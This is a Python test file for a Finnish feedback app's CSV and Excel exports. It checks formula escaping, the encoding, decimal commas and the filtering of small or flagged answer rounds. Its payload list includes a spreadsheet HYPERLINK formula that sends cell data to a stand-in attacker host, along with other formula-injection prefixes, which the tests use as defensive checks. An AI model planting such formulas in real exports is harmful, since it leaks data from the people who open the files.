import csv
import io

import openpyxl
import pandas as pd
import pytest

from feedback.figures import Filters, exports
from feedback.plans import editing
from feedback.staff import auth
from tests.support.rounds import answered, open_round

ADMIN = auth.User("ada", auth.Role.ADMIN, (), False)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klikkaa")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "\t=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_cell_never_starts_a_formula(payload):
    data = exports.to_csv(pd.DataFrame({payload: [payload, "Hyvä ja kaunis"], "n": [1, 2]}))
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, so Excel reads ä and ö"
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "'" + payload, "headers too"
    assert rows[1][0] == "'" + payload
    assert rows[2] == ["Hyvä ja kaunis", "2"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_xlsx_cell_is_text_not_a_formula(payload):
    data = exports.to_xlsx({"Vastaukset": pd.DataFrame({payload: [payload], "n": [3]})})
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Vastaukset"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert [c.value for c in cells] == [payload, "n", payload, 3]


def test_decimals_are_written_with_a_comma_for_finnish_excel():
    data = exports.to_csv(pd.DataFrame({"mean": [3.75]}))
    assert data.decode("utf-8-sig").splitlines()[1] == "3,75"


def test_the_answers_export_holds_only_rounds_with_k_answers_and_no_flagged(plan_db):
    big = open_round(plan_db, action_id="mini:a1")
    small = open_round(plan_db, action_id="mini:a2")
    answered(plan_db, big, 4, flagged=True)
    answered(plan_db, big, *[4] * 11)
    answered(plan_db, small, 1, 1, 1)
    frame = exports.answers(plan_db, "mini", filters=Filters(), k=10, user=ADMIN)
    assert set(frame["round"]) == {big.code}
    assert frame["answers"].sum() == 11, "the flagged answer is left out"
    assert set(frame.columns) >= {"month", "group", "channel", "score"}
    assert "day" not in frame.columns and "text" not in frame.columns


def test_an_action_text_with_a_formula_payload_exports_inert(plan_db):
    plan = editing.export_plan(plan_db, "mini")
    editing.find_action(plan, "a1")["text"]["fi"] = PAYLOADS[0]
    editing.save(plan_db, plan)
    frame = pd.DataFrame({"action text": [PAYLOADS[0]]})
    sheet = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx({"x": frame})))["x"]
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == PAYLOADS[0]


def test_an_xlsx_keeps_numbers_as_numbers_and_hidden_figures_empty():
    frame = pd.DataFrame({"goal": ["1. Hyvinvointi", "1.1 Harrastukset"], "mean": [3.75, None]})
    sheet = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx({"x": frame})))["x"]
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["goal", "mean"],
        ["1. Hyvinvointi", 3.75],
        ["1.1 Harrastukset", None],
    ]
